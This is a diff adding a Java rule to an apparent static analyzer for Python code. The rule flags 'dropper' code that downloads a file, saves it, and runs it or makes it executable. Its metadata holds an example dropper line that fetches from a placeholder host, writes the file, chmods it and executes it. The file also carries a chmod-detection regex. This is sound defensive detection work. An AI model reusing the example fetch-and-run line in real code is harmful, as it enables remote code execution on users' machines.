@@ -1,0 +1,109 @@
+package dev.kingsnake.rules.persistence;
+
+import dev.kingsnake.Confidence;
+import dev.kingsnake.Severity;
+import dev.kingsnake.rules.network.Capability;
+import dev.kingsnake.rules.network.CodeFacts;
+import dev.kingsnake.spi.FindingSink;
+import dev.kingsnake.spi.Location;
+import dev.kingsnake.spi.PythonFile;
+import dev.kingsnake.spi.PythonFileRule;
+import dev.kingsnake.spi.RuleContext;
+import dev.kingsnake.spi.RuleInfo;
+import dev.kingsnake.spi.Tags;
+import dev.kingsnake.spi.python.Const;
+import dev.kingsnake.spi.python.Expr;
+
+import java.util.HashSet;
+import java.util.List;
+import java.util.Locale;
+import java.util.Optional;
+import java.util.Set;
+import java.util.regex.Pattern;
+
+/** Download, save and run (or make executable) in one function: a dropper. */
+public final class DropperRule implements PythonFileRule {
+
+    private static final RuleInfo INFO = new RuleInfo("KS-PERSIST-DROPPER",
+            "Downloads a file, saves it and runs it or makes it executable (chmod +x, os.chmod 0o755, os.startfile)",
+            Severity.HIGH, Confidence.HIGH, Set.of(Tags.DOWNLOAD, Tags.FILE_WRITE, Tags.PROCESS),
+            "data = urlopen('https://cdn.example.invalid/p').read(); open(p, 'wb').write(data); os.chmod(p, 0o755); subprocess.Popen([p])",
+            "Build scripts that fetch and unpack sources run constant build tools (tar, make, cmake, unzip, git, "
+                    + "pip); those process calls are not counted. Binary-tool installers (drivers, CLIs) that download "
+                    + "and chmod a file match at medium weight when the run happens elsewhere in the file.");
+
+    private static final Set<String> BUILD_TOOLS = Set.of("tar", "make", "cmake", "unzip", "gzip", "git", "pip",
+            "pip3", "python", "python3", "sys.executable", "gcc", "cc", "g++", "configure", "./configure", "ninja",
+            "meson", "cargo", "npm", "yarn", "patch", "7z", "bzip2", "xz", "unxz", "sh", "bash");
+    private static final Pattern CHMOD_EXEC = Pattern.compile("(?i)chmod\\s+(\\+x|[+ugoa]*\\+[rw]*x|[0-7]?[157][0-7]{2})");
+
+    @Override
+    public RuleInfo info() {
+        return INFO;
+    }
+
+    @Override
+    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
+        CodeFacts facts = CodeFacts.of(file);
+        Set<Capability> fc = facts.fileCaps();
+        if (!(fc.contains(Capability.FETCH) || fc.contains(Capability.DOWNLOAD_TO_FILE))
+                || !(fc.contains(Capability.PROCESS) || fc.contains(Capability.CHMOD))) {
+            return;
+        }
+        Set<Integer> dropScopes = new HashSet<>();
+        for (CodeFacts.CallFact c : facts.calls()) {
+            Set<Capability> s = facts.scope(c.scope());
+            if (s.contains(Capability.DOWNLOAD_TO_FILE)
+                    || (s.contains(Capability.FETCH) && s.contains(Capability.FILE_WRITE))) {
+                dropScopes.add(c.scope());
+            }
+        }
+        if (dropScopes.isEmpty()) {
+            return;
+        }
+        Set<Integer> lines = new HashSet<>();
+        for (CodeFacts.CallFact c : facts.calls()) {
+            if (!runsOrMarksExecutable(facts, c) || !lines.add(c.call().line())) {
+                continue;
+            }
+            String ev = file.line(c.call().line());
+            if (dropScopes.contains(c.scope())) {
+                sink.report(Location.of(file, c.call()), "downloads a file, saves it and runs it or makes it executable",
+                        ev);
+            } else {
+                sink.report(Location.of(file, c.call()),
+                        "runs or marks executable a file in a module that downloads and saves files", ev,
+                        Severity.MEDIUM, Confidence.MEDIUM);
+            }
+        }
+    }
+
+    private static boolean runsOrMarksExecutable(CodeFacts facts, CodeFacts.CallFact c) {
+        if (c.is(Capability.CHMOD)) {
+            return c.call().arg(1).map(m -> facts.file().constant(m)
+                    .map(k -> k instanceof Const.Int i && (i.value().intValue() & 0111) != 0)
+                    .orElse(true)).orElse(false);
+        }
+        if (!c.is(Capability.PROCESS)) {
+            return false;
+        }
+        List<String> texts = facts.textsWithin(c.call());
+        for (String t : texts) {
+            if (CHMOD_EXEC.matcher(t).find()) {
+                return true;
+            }
+        }
+        if (c.call().args().isEmpty()) {
+            return false;
+        }
+        Expr a0 = c.call().args().get(0);
+        Expr head = a0 instanceof Expr.Sequence seq && !seq.elements().isEmpty() ? seq.elements().get(0) : a0;
+        Optional<String> t = facts.text(head);
+        if (t.isPresent() && !t.get().startsWith("{}")) {
+            String[] words = t.get().strip().split("\\s+");
+            return !words[0].isEmpty() && !BUILD_TOOLS.contains(words[0].toLowerCase(Locale.ROOT));
+        }
+        return head instanceof Expr.Name || head instanceof Expr.FString || head instanceof Expr.BinOp
+                || head instanceof Expr.Subscript;
+    }
+}
